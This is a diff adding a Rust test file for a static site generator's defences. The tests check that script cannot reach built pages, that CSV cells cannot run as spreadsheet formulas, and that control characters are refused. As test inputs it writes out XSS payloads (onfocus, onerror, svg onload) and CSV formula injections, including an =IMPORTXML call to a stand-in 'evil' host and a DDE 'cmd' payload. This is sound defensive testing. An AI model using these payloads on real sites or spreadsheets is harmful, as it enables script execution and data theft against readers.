@@ -1,0 +1,186 @@
+//! Nothing an author writes can run as script on a reader's page or as a formula in a reader's
+//! spreadsheet, and no invisible character reaches a page.
+
+use crate::rules::rejected;
+use crate::{build, copy_fixture, edit, read, run};
+
+/// Every HTML file of a built site, with its path.
+fn pages(out: &std::path::Path) -> Vec<(String, String)> {
+    walkdir::WalkDir::new(out)
+        .into_iter()
+        .filter_map(Result::ok)
+        .filter(|e| e.path().extension().is_some_and(|x| x == "html"))
+        .map(|e| {
+            (
+                e.path().display().to_string(),
+                std::fs::read_to_string(e.path()).unwrap(),
+            )
+        })
+        .collect()
+}
+
+/// An attribute like `onfocus=` inside a tag (not in text, where it would be escaped).
+fn has_event_handler(html: &str) -> bool {
+    html.split('<').skip(1).any(|tag| {
+        let tag = tag.split('>').next().unwrap_or("");
+        tag.split_whitespace().skip(1).any(|attr| {
+            let name = attr.split('=').next().unwrap_or("");
+            attr.contains('=')
+                && name.len() > 2
+                && name.starts_with("on")
+                && name.bytes().all(|b| b.is_ascii_alphabetic())
+        })
+    })
+}
+
+#[test]
+fn heading_attributes_cannot_smuggle_a_script_into_a_page_or_full_text() {
+    let (_tmp, content) = copy_fixture("basic");
+    let attack = "# Giới thiệu {tabindex=1 autofocus onfocus=alert(document.domain)}\n\n## Hai {#x onmouseover=alert(1) .y}\n";
+    std::fs::write(content.join("pages/about.vi.md"), attack).unwrap();
+    let doc = content.join("plans/dai-tu-2022/document.vi.md");
+    let text = std::fs::read_to_string(&doc).unwrap();
+    std::fs::write(&doc, format!("{attack}\n{text}")).unwrap();
+    let (_t, out) = build(&content);
+    for (path, html) in pages(&out) {
+        assert!(!has_event_handler(&html), "{path} has an event handler");
+        for tag in html
+            .split('<')
+            .skip(1)
+            .map(|t| t.split('>').next().unwrap_or(""))
+        {
+            assert!(
+                !tag.contains("autofocus") && !tag.contains("tabindex=\"1\""),
+                "{path}: <{tag}>"
+            );
+        }
+    }
+    let about = read(&out, "about.html");
+    assert!(
+        about.contains(r#"<h2 id="x" class="y">Hai</h2>"#),
+        "{about}"
+    );
+    assert!(about.contains("<title>Giới thiệu ·"), "{about}");
+}
+
+#[test]
+fn every_page_carries_a_content_security_policy_and_no_inline_script_or_style() {
+    let (_t, out) = build(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("content"));
+    let all = pages(&out);
+    assert!(all.len() > 300);
+    for (path, html) in all {
+        assert!(
+            html.contains(r#"<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self'; style-src 'self';"#),
+            "{path} has no CSP"
+        );
+        assert!(
+            !html.contains("<script>") && !html.contains("<script "),
+            "{path}"
+        );
+        assert!(!html.contains(" style="), "{path} has an inline style");
+        assert!(!has_event_handler(&html), "{path} has an event handler");
+        assert!(!html.contains("javascript:"), "{path}");
+    }
+}
+
+#[test]
+fn markup_in_structured_fields_is_shown_as_text() {
+    let (_tmp, content) = copy_fixture("basic");
+    edit(
+        &content,
+        "plans/dai-tu-2022/plan.toml",
+        r#"short_title = { vi = "Đại Từ 2022", en = "Đại Từ 2022" }"#,
+        r#"short_title = { vi = "<script>alert(1)</script><img src=x onerror=alert(2)>", en = "\"><svg onload=alert(3)>" }"#,
+    );
+    let (_t, out) = build(&content);
+    for (path, html) in pages(&out) {
+        assert!(!html.contains("<script>alert"), "{path}");
+        assert!(!html.contains("<img src=x"), "{path}");
+        assert!(!html.contains("<svg onload"), "{path}");
+        assert!(!has_event_handler(&html), "{path}");
+    }
+    assert!(read(&out, "plans/dai-tu-2022.html").contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
+}
+
+#[test]
+fn control_characters_in_content_are_refused_where_they_stand() {
+    let (_tmp, content) = copy_fixture("basic");
+    edit(
+        &content,
+        "pages/about.vi.md",
+        "Giới thiệu",
+        "Giới\u{1b}[2J thiệu",
+    );
+    edit(
+        &content,
+        "plans/dai-tu-2022/plan.toml",
+        r#"en = "Đại Từ 2022" }"#,
+        r#"en = "Đại Từ\u0000 2022" }"#,
+    );
+    edit(
+        &content,
+        "plans/dai-tu-2022/projects.toml",
+        "Hỗ trợ nhà ở\"",
+        "Hỗ trợ\u{202e} nhà ở\"",
+    );
+    rejected(
+        &content,
+        &[
+            "pages/about.vi.md:",
+            "holds U+001B (ESC), which a page must not show",
+            "plan.toml:7:",
+            "holds an escape for U+0000 (NUL)",
+            "projects.toml:6:",
+            "U+202E (a bidirectional-text control)",
+        ],
+    );
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    let (_tmp, content) = copy_fixture("basic");
+    let t = "plans/van-quan-2021-2025/targets.toml";
+    edit(
+        &content,
+        t,
+        r#"text = { vi = "đạt 99,7%", en = "reaches 99.7%" }"#,
+        r#"text = { vi = "=IMPORTXML(\"http://evil\",\"//a\")", en = "@SUM(A1:A9)" }"#,
+    );
+    edit(
+        &content,
+        t,
+        r#"indicator = "Việc làm mới""#,
+        r#"indicator = "+cmd|' /C calc'!A0""#,
+    );
+    let (_t, out) = build(&content);
+    let csv = read(&out, "data/van-quan-2021-2025-targets.csv");
+    assert!(
+        csv.contains(r#""'=IMPORTXML(""http://evil"",""//a"")""#),
+        "{csv}"
+    );
+    assert!(csv.contains(",'@SUM(A1:A9),"), "{csv}");
+    assert!(csv.contains("'+cmd|' /C calc'!A0"), "{csv}");
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '@']),
+                "a cell starts like a formula: {line}"
+            );
+        }
+    }
+    // Figures stay numbers.
+    assert!(csv.contains(",4.5,"), "{csv}");
+}
+
+#[test]
+fn a_build_with_a_problem_in_a_page_writes_nothing() {
+    let (_tmp, content) = copy_fixture("basic");
+    std::fs::write(content.join("pages/bad.vi.md"), "a\u{0}b").unwrap();
+    let (code, _, err) = run(&["check", "--content", content.to_str().unwrap()]);
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.contains("pages/bad.vi.md:1:2: holds U+0000 (NUL)"),
+        "{err}"
+    );
+}
